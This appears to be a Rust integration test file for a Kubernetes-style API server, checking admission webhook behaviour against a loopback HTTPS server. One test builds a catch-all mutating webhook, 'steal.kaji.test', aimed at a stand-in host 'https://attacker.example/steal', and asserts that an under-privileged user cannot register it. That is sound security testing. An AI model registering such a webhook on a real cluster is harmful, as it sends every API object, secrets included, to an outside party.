//! Admission webhooks against the real binary and a real HTTPS webhook server (this test's, on
//! loopback, with a certificate from its own CA passed as `caBundle`): refusals name the webhook,
//! mutations land in the stored object, failure policies decide for unreachable webhooks,
//! selectors choose the requests, webhook configurations themselves are never sent to webhooks,
//! and only a user RBAC lets write them can register one.

mod common;

use axum::body::Bytes;
use axum::extract::{Path, State};
use axum::routing::post;
use axum::Router;
use base64::Engine as _;
use common::tokens::TokenApi;
use common::{eventually, send_json as send, started, ApiServer};
use serde_json::{json, Value};
use std::net::SocketAddr;
use std::sync::{Arc, Mutex};

/// The reviews the server received, in order.
type Seen = Arc<Mutex<Vec<Value>>>;

struct Server {
    addr: SocketAddr,
    ca_bundle: String,
    seen: Seen,
    _runtime: tokio::runtime::Runtime,
}

/// `/deny`: refuses objects whose data has a `deny` key; `/mutate`: adds `data.mutated`;
/// `/allow`: allows. Every review is recorded.
async fn review(Path(what): Path<String>, State(seen): State<Seen>, body: Bytes) -> String {
    let review: Value = serde_json::from_slice(&body).expect("an AdmissionReview");
    seen.lock().expect("lock").push(review.clone());
    let uid = review["request"]["uid"].clone();
    let object = &review["request"]["object"];
    let mut response = json!({"uid": uid, "allowed": true});
    match what.as_str() {
        "deny" if object.pointer("/data/deny").is_some() => {
            response = json!({"uid": uid, "allowed": false, "status": {"code": 403, "message": "the object carries a deny key"}});
        }
        "mutate" => {
            let op = if object.get("data").is_some_and(Value::is_object) {
                json!([{"op": "add", "path": "/data/mutated", "value": "yes"}])
            } else {
                json!([{"op": "add", "path": "/data", "value": {"mutated": "yes"}}])
            };
            response["patchType"] = json!("JSONPatch");
            response["patch"] = json!(base64::engine::general_purpose::STANDARD.encode(op.to_string()));
        }
        _ => {}
    }
    json!({"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview", "response": response}).to_string()
}

fn webhook_server() -> Server {
    kaji_pki::install_crypto_provider();
    let ca = kaji_pki::ca::Ca::generate("webhook-ca", std::time::Duration::from_secs(3600)).expect("ca");
    let spec = kaji_pki::ca::CertSpec::server("webhook", &[], &["127.0.0.1".parse().expect("ip")]);
    let issued = ca.issue(&spec).expect("serving cert");
    let config = kaji_pki::tls::server_config(&issued.cert_pem, &issued.key_pem, &kaji_pki::tls::ClientAuth::None)
        .expect("tls config");
    let runtime = tokio::runtime::Builder::new_multi_thread().worker_threads(1).enable_all().build().expect("runtime");
    let seen: Seen = Arc::default();
    let app = Router::new().route("/{what}", post(review)).with_state(seen.clone());
    let addr = runtime.block_on(async {
        let tcp = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("bind");
        let addr = tcp.local_addr().expect("local addr");
        let listener = kaji_pki::listener::TlsListener::new(tcp, config).expect("listener");
        tokio::spawn(async move { axum::serve(listener, app).await });
        addr
    });
    let ca_bundle = base64::engine::general_purpose::STANDARD.encode(ca.cert_pem());
    Server { addr, ca_bundle, seen, _runtime: runtime }
}

impl Server {
    fn hook(&self, name: &str, path: &str, extra: Value) -> Value {
        let mut h = json!({"name": name, "sideEffects": "None", "admissionReviewVersions": ["v1"],
            "clientConfig": {"url": format!("https://{}/{path}", self.addr), "caBundle": self.ca_bundle},
            "rules": [{"operations": ["CREATE", "UPDATE"], "apiGroups": [""], "apiVersions": ["v1"], "resources": ["configmaps"]}]});
        for (k, v) in extra.as_object().into_iter().flatten() {
            h[k] = v.clone();
        }
        h
    }

    fn reviews(&self) -> Vec<Value> {
        self.seen.lock().expect("lock").clone()
    }
}

const VALIDATING: &str = "/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations";
const MUTATING: &str = "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations";

fn post_json(s: &ApiServer, path: &str, body: Value) -> (u16, Value) {
    send(s, "POST", path, Some(&body), "application/json")
}

fn register(s: &ApiServer, collection: &str, name: &str, hooks: Vec<Value>) {
    let (code, body) = post_json(s, collection, json!({"metadata": {"name": name}, "webhooks": hooks}));
    assert_eq!(code, 201, "{body}");
}

/// POSTs `body` until the answer has `code`: configurations take effect once the watch cache
/// holds them (as in Kubernetes); what got created meanwhile is deleted before the next try.
fn until(s: &ApiServer, path: &str, body: Value, code: u16) -> Value {
    let name = body["metadata"]["name"].as_str().unwrap_or("").to_string();
    eventually(&format!("POST {path} ({name}) to answer {code}"), || {
        let (got, v) = post_json(s, path, body.clone());
        if got == 201 {
            send(s, "DELETE", &format!("{path}/{name}"), None, "application/json");
        }
        (got == code).then_some(v)
    })
}

fn configmap(ns: &str, name: &str, data: Value) -> (String, Value) {
    (format!("/api/v1/namespaces/{ns}/configmaps"), json!({"metadata": {"name": name}, "data": data}))
}

#[test]
fn a_validating_webhook_refuses_what_it_denies_and_sees_the_request() {
    let (_dir, s) = started();
    let hooks = webhook_server();
    register(&s, VALIDATING, "deny-keys", vec![hooks.hook("deny.kaji.test", "deny", json!({}))]);
    let (path, cm) = configmap("default", "refused", json!({"deny": "1"}));
    let body = until(&s, &path, cm, 403);
    assert_eq!(
        body["message"],
        "admission webhook \"deny.kaji.test\" denied the request: the object carries a deny key"
    );
    let (path, cm) = configmap("default", "allowed", json!({"a": "1"}));
    assert_eq!(post_json(&s, &path, cm).0, 201);
    let (code, _) = send(&s, "GET", "/api/v1/namespaces/default/configmaps/refused", None, "application/json");
    assert_eq!(code, 404, "a refused object is never stored");
    let last = hooks.reviews().pop().expect("reviews");
    let req = &last["request"];
    assert_eq!(
        (&req["operation"], &req["namespace"], &req["name"]),
        (&json!("CREATE"), &json!("default"), &json!("allowed"))
    );
    assert_eq!(
        (&req["resource"], &req["kind"]["kind"]),
        (&json!({"group": "", "version": "v1", "resource": "configmaps"}), &json!("ConfigMap"))
    );
    assert_eq!(req["object"]["data"], json!({"a": "1"}));
    assert_eq!(req["options"]["kind"], "CreateOptions");
}

#[test]
fn a_mutating_webhook_patch_is_stored_and_validated_after() {
    let (_dir, s) = started();
    let hooks = webhook_server();
    register(&s, MUTATING, "add-key", vec![hooks.hook("mutate.kaji.test", "mutate", json!({}))]);
    let (path, cm) = configmap("default", "patched", json!({"a": "1"}));
    let made = eventually("the mutating webhook to take effect", || {
        let (code, made) = post_json(&s, &path, cm.clone());
        assert_eq!(code, 201, "{made}");
        if made["data"].get("mutated").is_none() {
            send(&s, "DELETE", &format!("{path}/patched"), None, "application/json");
            return None;
        }
        Some(made)
    });
    assert_eq!(made["data"], json!({"a": "1", "mutated": "yes"}), "{made}");
    // An update is sent too; a dry run is sent as one and stores nothing.
    let (code, dry) = send(
        &s,
        "POST",
        &format!("{path}?dryRun=All"),
        Some(&json!({"metadata": {"name": "dry"}})),
        "application/json",
    );
    assert_eq!((code, &dry["data"]), (201, &json!({"mutated": "yes"})));
    assert_eq!(hooks.reviews().last().expect("a review")["request"]["dryRun"], true);
    assert_eq!(send(&s, "GET", &format!("{path}/dry"), None, "application/json").0, 404);
}

#[test]
fn failure_policy_decides_for_an_unreachable_webhook() {
    let (_dir, s) = started();
    let hooks = webhook_server();
    // A port nothing listens on: bind one, then close it.
    let closed = std::net::TcpListener::bind("127.0.0.1:0").expect("bind").local_addr().expect("addr");
    let unreachable = |name: &str, policy: &str, ns: &str| {
        let mut h = hooks.hook(
            name,
            "allow",
            json!({"failurePolicy": policy,
            "namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": ns}}}),
        );
        h["clientConfig"]["url"] = json!(format!("https://{closed}/allow"));
        h
    };
    for ns in ["open", "closed"] {
        assert_eq!(post_json(&s, "/api/v1/namespaces", json!({"metadata": {"name": ns}})).0, 201);
    }
    register(
        &s,
        VALIDATING,
        "unreachable",
        vec![unreachable("open.kaji.test", "Ignore", "open"), unreachable("closed.kaji.test", "Fail", "closed")],
    );
    let (path, cm) = configmap("closed", "a", json!({}));
    let body = until(&s, &path, cm, 500);
    assert_eq!(body["reason"], "InternalError", "{body}");
    // In effect now: the failurePolicy Ignore webhook lets its namespace's writes through.
    let (open_path, open_cm) = configmap("open", "a", json!({}));
    assert_eq!(post_json(&s, &open_path, open_cm).0, 201, "failurePolicy Ignore admits");
    let msg = body["message"].as_str().unwrap_or("");
    assert!(
        msg.starts_with(
            "Internal error occurred: failed calling webhook \"closed.kaji.test\": failed to call webhook: Post "
        ),
        "{msg}"
    );
    // The namespaceSelector kept the webhooks away from every other namespace.
    let (path, cm) = configmap("default", "a", json!({}));
    assert_eq!(post_json(&s, &path, cm).0, 201);
}

#[test]
fn webhook_configurations_are_never_sent_to_webhooks() {
    let (_dir, s) = started();
    let hooks = webhook_server();
    let mut everything = hooks.hook("deny-all.kaji.test", "deny", json!({}));
    everything["rules"] =
        json!([{"operations": ["*"], "apiGroups": ["*"], "apiVersions": ["*"], "resources": ["*/*"]}]);
    everything["clientConfig"]["url"] = json!("https://127.0.0.1:1/nowhere");
    register(&s, VALIDATING, "lockout", vec![everything]);
    let (path, cm) = configmap("default", "a", json!({}));
    until(&s, &path, cm, 500); // the fail-closed webhook covers configmaps
    let (code, body) = send(&s, "DELETE", &format!("{VALIDATING}/lockout"), None, "application/json");
    assert_eq!(code, 200, "{body}");
    assert!(hooks.reviews().is_empty());
}

#[test]
fn registering_a_webhook_takes_rights_over_admission_configuration() {
    let api = TokenApi::start(&["dev"], &[], &[]);
    api.grant(
        "default",
        "edit-configmaps",
        "dev",
        json!([{"apiGroups": [""], "resources": ["configmaps"], "verbs": ["*"]}]),
    );
    let hook = json!({"name": "steal.kaji.test", "sideEffects": "None", "admissionReviewVersions": ["v1"],
        "clientConfig": {"url": "https://attacker.example/steal"},
        "rules": [{"operations": ["*"], "apiGroups": ["*"], "apiVersions": ["*"], "resources": ["*/*"]}]});
    let (code, body) =
        api.call("dev", "POST", MUTATING, Some(json!({"metadata": {"name": "steal"}, "webhooks": [hook]})));
    assert_eq!(code, 403, "{body}");
}

#[test]
fn invalid_configurations_are_refused_with_kubernetes_messages() {
    let (_dir, s) = started();
    let hook = json!({"name": "two.parts", "admissionReviewVersions": ["v1"], "clientConfig": {"url": "http://h/x"}});
    let (code, body) = post_json(&s, VALIDATING, json!({"metadata": {"name": "bad"}, "webhooks": [hook]}));
    assert_eq!(code, 422, "{body}");
    let causes: Vec<&str> =
        body["details"]["causes"].as_array().expect("causes").iter().filter_map(|c| c["field"].as_str()).collect();
    assert_eq!(causes, ["webhooks[0].name", "webhooks[0].sideEffects", "webhooks[0].clientConfig.url"]);
}

#[test]
fn match_conditions_choose_the_requests_a_webhook_sees() {
    let (_dir, s) = started();
    let hooks = webhook_server();
    let conditions = json!([{"name": "not-skipped", "expression": "object.metadata.name != 'skip-me'"},
        {"name": "creates", "expression": "request.operation == 'CREATE'"}]);
    let broken = json!([{"name": "broken", "expression": "object.nope.deeper == 'x'"}]);
    let failing = json!({"matchConditions": broken, "namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "strict"}}});
    register(
        &s,
        VALIDATING,
        "conditional",
        vec![
            hooks.hook("deny.kaji.test", "deny", json!({"matchConditions": conditions})),
            hooks.hook("broken.kaji.test", "allow", failing),
        ],
    );
    let (path, cm) = configmap("default", "other", json!({"deny": "1"}));
    until(&s, &path, cm, 403);
    let (path, cm) = configmap("default", "skip-me", json!({"deny": "1"}));
    assert_eq!(post_json(&s, &path, cm).0, 201, "a false condition skips the webhook");
    assert_eq!(post_json(&s, "/api/v1/namespaces", json!({"metadata": {"name": "strict"}})).0, 201);
    let (path, cm) = configmap("strict", "a", json!({}));
    let body = until(&s, &path, cm, 403); // once the watch cache holds the new namespace
    assert_eq!(body["reason"], "Forbidden", "{body}");
    let msg = body["message"].as_str().unwrap_or("");
    assert!(msg.starts_with("configmaps \"a\" is forbidden: matchCondition 'broken': "), "{msg}");
    // An expression that does not compile is refused with the API's message.
    let bad = hooks.hook(
        "bad.kaji.test",
        "allow",
        json!({"matchConditions": [{"name": "x", "expression": "... [] bad expression"}]}),
    );
    let (code, body) = post_json(&s, VALIDATING, json!({"metadata": {"name": "bad"}, "webhooks": [bad]}));
    assert_eq!(code, 422, "{body}");
    assert!(body["message"].as_str().unwrap_or("").contains("compilation failed"), "{body}");
}
